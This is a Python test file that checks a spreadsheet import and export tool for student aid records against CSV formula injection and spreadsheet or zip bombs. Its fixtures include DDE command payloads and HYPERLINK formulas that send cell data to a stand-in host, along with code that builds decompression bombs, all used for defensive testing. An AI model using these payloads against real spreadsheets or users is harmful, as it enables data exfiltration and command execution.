"""Hostile spreadsheets, both ways: formulas are refused on import and neutralised on every export
(OWASP CSV injection), and spreadsheet bombs stop with a message within bounded memory."""

from __future__ import annotations

import csv
import io
import os
import resource
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from io_fixtures import HEADERS_NEW, application, make_data, row_new, write_record
from test_import import files, run, xlsx

from jinqiu.publish import pipeline as publish
from jinqiu.sheets import cellsafe

ROOT = Path(__file__).resolve().parent.parent
SITE_DATA = Path(__file__).parent / "site_data" / "data"

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?"&F2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '="1"&HYPERLINK("http://evil.invalid")&""',
]


@pytest.fixture
def data(tmp_path):
    return make_data(tmp_path / "data")


def _import(data, path):
    return run("import", path, "--unit", "dl-zs-0001", "--data", data)


# ---------------------------------------------------------------- import refuses formulas


@pytest.mark.parametrize("column", ["职工姓名", "家庭住址", "助学资金", "学校名称"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_an_xlsx_formula_cell_is_refused_naming_file_sheet_row_and_column(data, tmp_path, column, formula):
    bad = row_new(1)
    bad[HEADERS_NEW.index(column)] = formula  # openpyxl writes a text starting with = as a formula
    code, out, _ = _import(data, xlsx(tmp_path / "f.xlsx", [HEADERS_NEW, row_new(0), bad], title="申请"))
    assert code == 1
    line = next(x for x in out.splitlines() if "error" in x)
    assert "f.xlsx:申请!3: error: " in line and column in line, out
    assert "公式" in line
    assert len(files(data)) == 1  # the good row only
    assert not any(b"cmd|" in b or b"HYPERLINK" in b for b in files(data).values())


def test_a_formula_is_read_as_a_formula_not_as_its_cached_value(data, tmp_path):
    """A cell =4000+1000 whose cached value is 5000: reading the cached value would hide it."""
    sheet = xlsx(tmp_path / "c.xlsx", [HEADERS_NEW, row_new(0)])
    col = openpyxl.utils.get_column_letter(HEADERS_NEW.index("助学资金") + 1)
    with zipfile.ZipFile(sheet) as src, zipfile.ZipFile(tmp_path / "cached.xlsx", "w") as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                old = f'<c r="{col}2" t="n"><v>5000</v></c>'.encode()
                assert old in body
                body = body.replace(old, f'<c r="{col}2"><f>4000+1000</f><v>5000</v></c>'.encode())
            dst.writestr(item, body)
    code, out, _ = _import(data, tmp_path / "cached.xlsx")
    assert code == 1 and "cached.xlsx:Sheet1!2: error: 助学资金" in out and "这是公式" in out, out
    assert files(data) == {}


@pytest.mark.parametrize("formula", FORMULAS + ["\t=1+1"])
def test_a_csv_cell_that_a_spreadsheet_would_evaluate_is_refused(data, tmp_path, formula):
    bad = row_new(1)
    bad[HEADERS_NEW.index("家庭住址")] = formula
    path = tmp_path / "f.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([HEADERS_NEW, row_new(0), bad])
    code, out, _ = _import(data, path)
    assert code == 1 and "f.csv:f!3: error: 家庭住址" in out and "公式" in out, out
    assert "3+cmd" not in out or "*+cmd" in out  # digits in the message are masked
    assert len(files(data)) == 1


def test_plain_signed_numbers_dashes_and_quoted_text_are_not_formulas():
    from jinqiu.sheets import cells

    for ok in ("-", "--", "-5", "+86 139 4112 0000", "0411-84123456", '="210202196601101019"', "'=1+1", "王建国"):
        assert cells.formula_notes(ok) == [], ok
    for bad in FORMULAS:
        assert cells.formula_notes(bad), bad


# ---------------------------------------------------------------- every export neutralises


HOSTILE = {  # pointer in the record -> a value a spreadsheet would evaluate
    ("worker", "employer"): "=HYPERLINK(\"http://evil.invalid\",\"单位\")",
    ("worker", "address"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("student", "school"): "+1+cmd|' /C calc'!A0",
    ("student", "major"): "-2+3+cmd|' /C calc'!A0",
    ("worker", "name"): "\t=1+1",
}


@pytest.fixture
def hostile_data(tmp_path):
    root = make_data(tmp_path / "data")
    record = application(2011, "dl-zs-0001", 1)
    for (a, b), value in HOSTILE.items():
        record[a][b] = value
    record["worker"]["phone"] = '1"&HYPERLINK("http://evil.invalid")&"'  # would close ="…"
    write_record(root, record)
    return root


def test_xlsx_export_writes_every_text_as_a_string_cell_never_a_formula(hostile_data, tmp_path):
    out = tmp_path / "e.xlsx"
    code, _, err = run("export", "--unit", "dl-zs", "--data", hostile_data, "--out", out)
    assert code == 0, err
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in s or b"<f " in s for s in sheets)
    ws = openpyxl.load_workbook(out)["申请"]
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2])}
    for value in HOSTILE.values():
        cell = next(c for c in row.values() if c.value == value)
        assert cell.data_type == "s" and cell.quotePrefix, value
    assert row["助学资金"].data_type == "n" and row["助学资金"].value == 5000  # numbers stay numbers
    assert row["家庭人口"].data_type == "n"


def test_csv_export_prefixes_every_evaluated_text_with_a_quote(hostile_data, tmp_path):
    out = tmp_path / "e.csv"
    assert run("export", "--unit", "dl-zs", "--data", hostile_data, "--format", "csv", "--out", out)[0] == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    row = dict(zip(rows[0], rows[1]))
    for value in HOSTILE.values():
        assert "'" + value in row.values(), value
    for cell in row.values():
        assert not cellsafe.evaluated(cell) or cell.startswith('="') and '"' not in cell[2:-1], cell
    assert row["联系电话"].startswith("'1") or row["联系电话"].startswith('1')  # not ="1"&HYPERLINK(…)&""
    assert row["身份证号码"].startswith('="2102')  # the one safe text form, kept
    assert row["助学资金"] == "5000"


def test_csv_cell_helper_keeps_numbers_and_neutralises_text():
    from decimal import Decimal

    assert cellsafe.csv_row([5000, Decimal("800.50"), -3, "-3", "=1+1", " @x", "\r=1", "王"]) == [
        "5000", "800.50", "-3", "'-3", "'=1+1", "' @x", "'\r=1", "王"]


def test_public_downloads_and_export_statistics_neutralise_a_union_name(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(SITE_DATA, data)
    units = (data / "units.yaml").read_text(encoding="utf-8")
    evil = '=HYPERLINK("http://evil.invalid","中山区")'
    assert "name: 大连市中山区总工会" in units
    (data / "units.yaml").write_text(units.replace("name: 大连市中山区总工会", f"name: '{evil}'"), encoding="utf-8")
    result = publish.build(publish.Options(data=data, out=tmp_path / "out", today="2011-08-20", forms=False))
    downloads = sorted((result.site_dir / "downloads").iterdir())
    assert {p.suffix for p in downloads} == {".csv", ".xlsx"}, result.problems
    stats = tmp_path / "stats.xlsx"
    code, _, err = run("export", "--statistics", "--unit", "dl", "--year", 2011, "--data", data, "--out", stats)
    assert code == 0, err
    for book in [p for p in downloads if p.suffix == ".xlsx"] + [stats]:
        with zipfile.ZipFile(book) as z:
            assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
        wb = openpyxl.load_workbook(book)
        found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if evil in str(c.value)]
        assert found and all(c.data_type == "s" for c in found)
        assert all(c.quotePrefix for c in found if c.value == evil)
        numbers = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, int)]
        assert numbers and all(c.data_type == "n" for c in numbers)
    text = next(p for p in downloads if p.suffix == ".csv").read_text(encoding="utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    assert f"'{evil}（dl-zs）" in header
    assert not any(cellsafe.evaluated(c) for r in csv.reader(io.StringIO(text)) for c in r)


# ---------------------------------------------------------------- spreadsheet bombs

LIMIT = 768 * 1024 * 1024  # address space for the import process (python + openpyxl take ~180 MB)


def _limited():
    resource.setrlimit(resource.RLIMIT_AS, (LIMIT, LIMIT))


def import_limited(data: Path, path: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, str(ROOT / "build.py"), "import", str(path), "--unit", "dl-zs-0001", "--data", str(data)],
        capture_output=True, text=True, timeout=300, preexec_fn=_limited, cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )


def _rewrite_sheet(src: Path, dst: Path, sheet: bytes, stored=False) -> Path:
    with zipfile.ZipFile(src) as a, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as b:
        for item in a.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                b.writestr("xl/worksheets/sheet1.xml", sheet, zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
            else:
                b.writestr(item, a.read(item.filename))
    return dst


def _sheet_xml(rows: bytes, dimension: str = "A1:X3") -> bytes:
    return (b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + f'<dimension ref="{dimension}"/>'.encode() + b"<sheetData>" + rows + b"</sheetData></worksheet>")


def _real_rows(tmp_path) -> bytes:
    plain = xlsx(tmp_path / "plain.xlsx", [HEADERS_NEW, row_new(0)])
    with zipfile.ZipFile(plain) as z:
        body = z.read("xl/worksheets/sheet1.xml")
    return body[body.index(b"<sheetData>") + len(b"<sheetData>"):body.index(b"</sheetData>")], plain


def test_a_sheet_claiming_a1_to_xfd1048576_is_read_as_what_it_holds(data, tmp_path):
    rows, plain = _real_rows(tmp_path)
    bomb = _rewrite_sheet(plain, tmp_path / "dim.xlsx", _sheet_xml(rows, "A1:XFD1048576"))
    assert bomb.stat().st_size < 8 * 1024
    proc = import_limited(data, bomb)
    assert "Traceback" not in proc.stderr and "MemoryError" not in proc.stderr, proc.stderr[-2000:]
    assert proc.returncode == 0 and "新建 1 个文件" in proc.stderr, proc.stdout + proc.stderr
    assert len(files(data)) == 1


def test_a_cell_at_xfd1048576_stops_with_a_message(data, tmp_path):
    rows, plain = _real_rows(tmp_path)
    far = rows + b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    bomb = _rewrite_sheet(plain, tmp_path / "far.xlsx", _sheet_xml(far, "A1:XFD1048576"))
    proc = import_limited(data, bomb)
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert proc.returncode == 1 and "far.xlsx: error: " in proc.stdout and "超过 50000 行" in proc.stdout, proc.stdout
    assert files(data) == {}


def test_millions_of_compressed_rows_are_refused_before_inflating(data, tmp_path):
    rows, plain = _real_rows(tmp_path)
    bomb = tmp_path / "rows.xlsx"
    chunk = b"<row><c><v>1</v></c></row>" * 40_000
    with zipfile.ZipFile(plain) as a, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as b:
        for item in a.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                b.writestr(item, a.read(item.filename))
        with b.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            f.write(_sheet_xml(b"").split(b"</sheetData>")[0] + rows)
            for _ in range(200):  # 8,000,000 rows
                f.write(chunk)
            f.write(b"</sheetData></worksheet>")
    assert bomb.stat().st_size < 2 * 1024 * 1024
    proc = import_limited(data, bomb)
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert proc.returncode == 1 and "rows.xlsx: error: " in proc.stdout and "压缩炸弹" in proc.stdout, proc.stdout
    assert files(data) == {}


def test_rows_beyond_the_limit_in_an_uncompressed_sheet_stop_the_import(data, tmp_path):
    rows, plain = _real_rows(tmp_path)
    many = rows + b"<row><c><v>1</v></c></row>" * 60_000
    bomb = _rewrite_sheet(plain, tmp_path / "many.xlsx", _sheet_xml(many), stored=True)
    proc = import_limited(data, bomb)
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert proc.returncode == 1 and "超过 50000 行" in proc.stdout, proc.stdout
    assert files(data) == {}


def test_a_csv_with_a_huge_field_or_too_many_columns_stops_with_a_message(data, tmp_path):
    for name, body in (("field.csv", ",".join(HEADERS_NEW) + "\n" + '"' + "x" * 200_000 + '"\n'),
                       ("wide.csv", ",".join(HEADERS_NEW) + "\n" + "," * 5000 + "\n"),
                       ("nul.csv", ",".join(HEADERS_NEW) + "\n" + "a\0b\n"),
                       ("renamed.csv", (tmp_path / "x.xlsx").read_bytes() if xlsx(tmp_path / "x.xlsx", [HEADERS_NEW]) else "")):
        if isinstance(body, bytes):
            (tmp_path / name).write_bytes(body)
        else:
            (tmp_path / name).write_text(body, encoding="utf-8")
        code, out, err = _import(data, tmp_path / name)
        assert code == 1 and f"{name}: error: " in out, (name, out, err)
    assert files(data) == {}
